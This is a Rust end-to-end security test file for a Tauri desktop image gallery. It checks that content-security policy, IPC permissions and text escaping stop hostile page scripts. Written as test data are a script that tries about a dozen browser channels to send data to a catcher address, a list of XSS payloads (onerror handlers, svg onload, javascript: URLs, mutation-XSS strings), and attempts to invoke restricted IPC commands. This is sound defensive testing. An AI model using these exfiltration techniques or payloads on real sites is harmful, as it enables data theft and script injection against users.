//! What the page can't do, tried by a hostile script inside it.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;
use std::time::Duration;

use journeys::window::driver::key;
use journeys::window::words::EN;
use journeys::window::{App, Display, Hands, Home, Page, Person, Session};
use serde_json::json;
use testkit::samples::with_parameters;

use crate::sealed::{TITLE, make_vault, sees, shipped, unlocks, web_processes};

fn start(home: &Home, display: &Display) -> App {
    App::start(&App::driven_beside(Path::new(crate::SHIPPED)), home, display)
}

/// Every way out that a page has.
const WAYS_OUT: &str = "
    const out = arguments[0] + '?leak';
    const soon = (start) => new Promise((go) => { const t = setTimeout(go, 1500); start(() => { clearTimeout(t); go(); }); });
    const add = (name, set) => soon((go) => {
      const e = document.createElement(name); e.onload = e.onerror = go; set(e); document.body.append(e);
    });
    await Promise.allSettled([
      add('img', (e) => { e.src = out; }),
      add('link', (e) => { e.rel = 'stylesheet'; e.href = out; }),
      add('link', (e) => { e.rel = 'prefetch'; e.href = out; }),
      add('iframe', (e) => { e.src = out; }),
      add('video', (e) => { e.src = out; }),
      add('object', (e) => { e.data = out; }),
      add('script', (e) => { try { e.src = out; } catch { /* trusted types */ } }),
      fetch(out).catch(() => {}),
      soon((go) => { try { new EventSource(out).onerror = go; } catch { go(); } }),
      soon((go) => { try { new WebSocket(out.replace('http', 'ws')).onerror = go; } catch { go(); } }),
      soon((go) => { try { navigator.sendBeacon(out, 'leak'); } catch { } go(); }),
      soon((go) => {
        try {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(out).host }] });
          peer.createDataChannel('x'); peer.createOffer().then((o) => peer.setLocalDescription(o), go);
        } catch { go(); }
      }),
      soon((go) => { window.open(out); const a = document.createElement('a'); a.href = out; a.download = 'x'; a.click(); go(); }),
      soon((go) => { const f = document.createElement('form'); f.action = out; document.body.append(f); f.submit(); }),
      soon((go) => { location.href = out; }),
    ]);
    return location.href;";

#[test]
fn no_script_in_the_page_can_send_anything_out() {
    let catcher = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let address = catcher.local_addr().unwrap();
    // The catcher catches.
    drop(TcpStream::connect(address).unwrap());
    drop(catcher.accept().unwrap());
    catcher.set_nonblocking(true).unwrap();

    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
    let app = start(&home, &display);
    let at = app.session.run_async(WAYS_OUT, &[json!(format!("http://{address}/"))]).unwrap();
    assert!(at.as_str().unwrap().starts_with("tauri://localhost"), "{at}");
    assert_eq!(catcher.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "something came out");
}

#[test]
fn a_script_can_ask_for_nothing_but_the_table() {
    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
    let app = start(&home, &display);
    let page = Page::new(&app.session);
    assert_eq!(page.session.run("return typeof window.__TAURI__", &[]), "undefined");
    let script = "const [command, args] = arguments;
        return await window.__TAURI_INTERNALS__.invoke(command, args)";
    for (command, arguments) in [
        ("plugin:event|emit", json!({ "event": "event", "payload": null })),
        ("plugin:window|create", json!({ "options": { "label": "other" } })),
        ("plugin:webview|create_webview_window", json!({ "options": { "label": "other" } })),
        ("plugin:window|set_title", json!({ "label": "main", "value": "x" })),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:app|version", json!({})),
        ("plugin:dialog|open", json!({ "options": {} })),
        ("plugin:resources|close", json!({ "rid": 0 })),
        ("entry_asked", json!({})),
        ("entry_answer", json!({ "id": 0, "secret": "x" })),
    ] {
        let error = page.session.run_async(script, &[json!(command), arguments]).unwrap_err();
        let error = error.as_str().unwrap().to_owned();
        assert!(error.contains("not allowed") || error.contains("not found"), "{command}: {error}");
    }
}

#[test]
fn the_page_runs_no_text_as_code() {
    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
    let app = start(&home, &display);
    let script = "window.ran = [];
        const tries = {
          inline: () => { const s = document.createElement('script'); s.textContent = \"window.ran.push('inline')\"; document.body.append(s); },
          handler: () => { document.body.setAttribute('onclick', \"window.ran.push('handler')\"); document.body.click(); },
          html: () => { const d = document.createElement('div'); d.innerHTML = \"<img src=x onerror=window.ran.push('html')>\"; document.body.append(d); },
          timer: () => { setTimeout(\"window.ran.push('timer')\"); },
          data: () => { const s = document.createElement('script'); s.src = \"data:text/javascript,window.ran.push('data')\"; document.body.append(s); },
          address: () => { const a = document.createElement('a'); a.href = \"javascript:window.ran.push('address')\"; document.body.append(a); a.click(); },
        };
        for (const go of Object.values(tries)) { try { go(); } catch { } }
        await new Promise((go) => setTimeout(go, 300));
        return window.ran;";
    assert_eq!(app.session.run_async(script, &[]).unwrap(), json!([]));
    // The same script elsewhere does run: the policy stops it, not a mistake in it.
    let policy = "const seen = []; document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
        const s = document.createElement('script'); try { s.textContent = '1'; document.body.append(s); } catch { seen.push('trusted-types'); }
        await new Promise((go) => setTimeout(go, 100)); return seen;";
    let seen = app.session.run_async(policy, &[]).unwrap();
    assert_ne!(seen, json!([]), "nothing was stopped");
}

/// The policy that stopped something, as the page was given it.
const POLICY: &str = "
    const stopped = new Promise((go) => document.addEventListener('securitypolicyviolation', go, { once: true }));
    const img = document.createElement('img'); img.src = 'http://example.com/'; document.body.append(img);
    return (await stopped).originalPolicy;";

#[test]
fn the_policy_in_force_is_the_configured_one_and_the_hashes_of_the_page() {
    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
    let app = start(&home, &display);
    let policy = app.session.run_async(POLICY, &[]).unwrap();
    let directives = |policy: &str| {
        let parts = policy.split(';').map(str::trim).filter(|part| !part.is_empty());
        parts.map(|part| part.split_whitespace().map(str::to_owned).collect()).collect::<Vec<Vec<String>>>()
    };
    // The runtime names the page's own scripts and styles by their hashes, and gives leave to nothing else.
    let own = |word: &String| word.starts_with("'sha256-") || word.starts_with("'nonce-");
    let mut in_force = directives(policy.as_str().unwrap());
    for directive in &mut in_force {
        if matches!(directive[0].as_str(), "script-src" | "style-src") {
            directive.retain(|word| !own(word));
        }
    }
    let mut wanted = directives(crate::configuration::CSP);
    in_force.sort();
    wanted.sort();
    assert_eq!(in_force, wanted);
}

#[test]
fn no_key_opens_developer_tools_in_the_shipped_program() {
    let (display, home) = (Display::start(), Home::new("en_US.UTF-8"));
    make_vault(&home);
    let app = shipped(&mut home.command(crate::SHIPPED, &display), &home);
    let hands = Hands::on_window(&display, TITLE);
    sees(&hands, "the lock screen", 11_000..18_000);
    let pages = web_processes(app.pid());
    for key in ["F12", "ctrl+shift+i", "ctrl+shift+j", "ctrl+shift+c", "ctrl+u"] {
        hands.press(key);
    }
    // The inspector is a page of its own with a process of its own. The window still takes a key.
    unlocks(&display, &hands);
    sees(&hands, "the empty gallery", 1_000..10_000);
    assert_eq!(web_processes(app.pid()), pages);
}

#[test]
fn the_shipped_program_can_not_be_driven() {
    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
    let driver = home.command("WebKitWebDriver", &display);
    // Many times as long as the driven build takes.
    let patience = Duration::from_secs(20);
    let refused = Session::try_start(driver, Path::new(crate::SHIPPED), &[], patience);
    assert!(refused.is_err(), "a driver got hold of the page");
}

/// Texts that would run as code in a careless page.
const HOSTILE: &[&str] = &[
    "<script>window.ran='script'</script>",
    "<img src=x onerror=\"window.ran='img'\">",
    "<svg onload=\"window.ran='svg'\"><animate onbegin=\"window.ran='animate'\" attributeName=x dur=1s>",
    "\"><iframe srcdoc=\"<script>parent.ran='iframe'</script>\">",
    "javascript:window.ran='address'",
    "{@html '<b onfocus=window.ran=1 autofocus tabindex=0>'}",
    "{window.ran='braces'} {{window.ran='braces'}} ${window.ran='dollar'}",
    "</title></textarea></style><style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src onerror=window.ran=1>",
    "<a href=\"javascript:window.ran='link'\" autofocus onfocus=window.ran=1>press</a>",
    "<details open ontoggle=window.ran='toggle'>",
    "\u{202e}<img src=x onerror=window.ran='turned'>\u{0000}",
];

#[test]
fn hostile_prompts_are_shown_as_text_and_never_run() {
    let (display, home) = (Display::start(), Home::new(EN.locale));
    let folder = home.path().join("hostile");
    std::fs::create_dir(&folder).unwrap();
    for (at, text) in HOSTILE.iter().enumerate() {
        let text = text.replace('\0', "");
        let bytes =
            with_parameters(&format!("{text}\nSteps: 9, Sampler: Euler, Seed: {at}, Size: 64x64"), 64);
        // The name is shown as well.
        std::fs::write(folder.join(format!("{at} <img src=x onerror=window.ran=1>.png")), bytes).unwrap();
    }
    let app = start(&home, &display);
    let person = Person::new(&app.session, &EN, &home);
    person.read_the_promise();
    person.protect_by_passphrase("seven lanterns over the quiet harbour");
    person.write_the_recovery_key_down();
    person.import_folder(&folder, HOSTILE.len());
    person.closes_popovers();
    person.chooses_first_picture();
    for _ in HOSTILE {
        person.page.find("button", "Copy prompt");
        person.page.session.press(key::RIGHT);
    }
    // The viewer shows the same in its panel, the search marks it.
    person.looks_at_it_in_full();
    person.goes_back();
    person.search("onerror", HOSTILE.len(), HOSTILE.len());
    let shown = person
        .page
        .session
        .run("return [window.ran ?? null, document.body.innerHTML.includes('&lt;img src=x')]", &[]);
    assert_eq!(shown, json!([null, true]));
}
